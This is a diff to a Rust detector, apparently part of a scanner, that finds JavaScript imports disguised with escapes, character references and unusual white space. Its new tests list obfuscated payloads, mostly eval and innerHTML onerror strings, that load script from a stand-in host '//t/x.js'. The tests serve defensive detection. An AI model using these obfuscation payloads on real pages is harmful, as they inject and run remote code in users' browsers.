@@ -10,6 +10,7 @@ use memchr::memmem;
 use super::imports::Import;
 use super::is_word;
 use super::literals::unescaped;
+use super::trivia::space;
 use super::words::{FROM, IMPORT, Words};
 use crate::references::decoded_attribute;
 
@@ -19,7 +20,8 @@ const DEEPEST: usize = 4;
 /// How much is read on each side of a letter that is written with an escape: the rest of the word, in escapes too.
 const NEAR: usize = 64;
 
-/// How much is read behind a word that imports: comments, an address, which may be a module itself.
+/// How much is read behind a word that imports: comments, an address, which may be a module itself. What ends later is not
+/// found.
 const AFTER: usize = 64 * 1024;
 
 impl Words<'_> {
@@ -97,8 +99,8 @@ fn hides_address(word: &str, after: &[u8]) -> bool {
     let after = after.trim_ascii_start();
     // `import.source(…)`, `import.defer(…)`.
     let phase = match after {
-        [b'.', b'\\' | b'&' | b'/' | b' ' | b'\t' | b'\r' | b'\n', ..] => return true,
-        [b'.', phase @ ..] => {
+        [b'.', b'\\' | b'&' | b'/' | b' ' | b'\t' | b'\r' | b'\n', ..] if word == IMPORT => return true,
+        [b'.', phase @ ..] if word == IMPORT => {
             let length = phase.iter().take(8).take_while(|byte| is_word(**byte)).count();
             &phase[length..]
         }
@@ -110,8 +112,8 @@ fn hides_address(word: &str, after: &[u8]) -> bool {
         argument => argument,
     };
     match argument {
-        // A comment; white space that is not of ASCII, or rare.
-        [b'/' | 0x0b | 0x80.., ..] | [b'<', b'!', ..] => true,
+        // A comment.
+        [b'/', ..] | [b'<', b'!', ..] | [b'-', b'-', b'>', ..] => true,
         // Quotes and dashes of prose.
         [b'&', b'#', b'8', b'2', b'1' | b'2', b'0'..=b'9', b';', ..] => false,
         [b'&', ..] => stands_for_more(argument),
@@ -125,7 +127,8 @@ fn hides_address(word: &str, after: &[u8]) -> bool {
             let end = memchr::memchr(*quote, body).unwrap_or(body.len());
             memchr::memchr2_iter(b'\\', b'&', &body[..end]).any(|at| stands_for_more(&body[at..]))
         }
-        _ => false,
+        // White space that is not of ASCII.
+        _ => space(argument).is_some(),
     }
 }
 
@@ -166,7 +169,7 @@ fn readings(code: &[u8], see: &mut dyn FnMut(&str)) {
 /// Where an escape or a character reference may write a letter of a word that imports.
 fn spelled_letters(code: &[u8]) -> impl Iterator<Item = usize> + '_ {
     /// How these begin. Bundles are full of `\n`, `\"` and `&&`, which are none.
-    const BEGINNINGS: [&[u8]; 24] = [
+    const BEGINNINGS: [&[u8]; 27] = [
         b"\\x2",
         b"\\x5",
         b"\\x6",
@@ -180,6 +183,9 @@ fn spelled_letters(code: &[u8]) -> impl Iterator<Item = usize> + '_ {
         b"\\14",
         b"\\15",
         b"\\16",
+        b"\\17",
+        b"\\43",
+        b"\\46",
         b"\\i",
         b"\\m",
         b"\\p",
@@ -219,9 +225,10 @@ fn spells_a_letter(mark: &[u8]) -> bool {
         [b'\\', b'x', first, second, ..] | [b'\\', b'u', b'0', b'0', first, second, ..] => {
             begins_with(&[*first, *second], &HEX)
         }
-        [b'\\', b'u', b'{', digits @ ..] => begins_with(after_zeros(digits), &HEX),
+        [b'\\', b'u', b'{', ..] => true,
         // In octal.
         [b'\\', b'1', b'5' | b'6', ..] | [b'\\', b'1', b'3', b'4', ..] | [b'\\', b'1', b'4', b'6', ..] => true,
+        [b'\\', b'1', b'7', b'0', ..] | [b'\\', b'4', b'3' | b'6', ..] => true,
         // A letter with a needless backslash, and a line that goes on.
         [b'\\', b'i' | b'm' | b'p' | b'o' | b'\r' | b'\n', ..] | [b'\\', 0xe2, 0x80, ..] => true,
         [b'&', b'#', b'x' | b'X', digits @ ..] => begins_with(after_zeros(digits), &HEX),
@@ -319,6 +326,26 @@ mod tests {
             "z.innerHTML='<img onload=\"&#105;mport(`//t/x.js`)\">'",
             "z.innerHTML='<img onload=\"imp&#x006F;rt(`//t/x.js`)\">'",
             "z.innerHTML='<img onload=\"e(&quot;import(\\\\&quot;//t/x.js\\\\&quot;)&quot;)\">'",
+            r#"s.textContent="export * \x66rom '//t/x.js'""#,
+            r"eval('import(`\\x2f\\x2ft/x.js`)')",
+            r"eval('import.defer (`\\x2f\\x2ft/x.js`)')",
+            r"eval('import(/* why */\'//t/x.js\')')",
+            r"eval('\u{00069}\u{0000000006d}\u{000000070}\u{6f}rt(\'//t/x.js\')')",
+            r#"s.textContent="im"+"port x from \"//t/x.js\"""#,
+            r#"s.textContent=k+"{a} from \"//t/x.js\"""#,
+            r#"d.write("\x3c\x69\x6d\x67 onerror=\x26\x23\x31\x30\x35\x3b\x26\x23\x31\x30\x39\x3bport(`//t/x.js`)>")"#,
+            r#"eval("eval('\\\x78\x36\x39mport(`//t/x.js`)')")"#,
+            r#"z.innerHTML="\u003cimg onerror=\"\u0026#105;\u0026#109;port('//t/x.js')\"\u003e""#,
+            "f.srcdoc='<img onerror=&amp;#105;mport(`//t/x.js`)>'",
+            "eval(\"import(\u{a0}\\\"//t/x.js\\\")\")",
+            "s.textContent=\"import a from\u{feff}\\\"//t/x.js\\\"\"",
+            r#"eval("import . source(\"//t/x.js\")")"#,
+            r#"eval("import.\x73ource('//t/x.js')")"#,
+            "eval(\"import(<!-- x\\n\\\"//t/x.js\\\")\")",
+            "eval(`import\n--> x\n(\\`//t/x.js\\`)`)",
+            r#"s.textContent="import x \146rom \"//t/x.js\"""#,
+            r#"z.innerHTML='<img onload="\u{26}#105;mport(`//t/x.js`)">'"#,
+            r#"z.innerHTML='<img onload="\46\43105;mport(`//t/x.js`)">'"#,
         ] {
             assert!(hidden(code).contains(&"//t/x.js".to_owned()), "{code}: {:?}", hidden(code));
         }
